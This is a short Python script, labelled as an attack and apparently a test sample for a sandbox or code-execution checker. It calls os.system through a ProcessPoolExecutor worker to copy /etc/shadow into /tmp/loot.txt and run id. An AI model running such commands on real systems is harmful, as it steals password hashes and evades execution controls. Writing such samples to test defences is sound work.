# attack: ProcessPoolExecutor.submit(os.system, ...) runs a shell command in a worker process
import os
from concurrent.futures import ProcessPoolExecutor

if __name__ == "__main__":
    with ProcessPoolExecutor(max_workers=1) as ex:
        fut = ex.submit(os.system, "cat /etc/shadow > /tmp/loot.txt; id")
        print("status", fut.result())
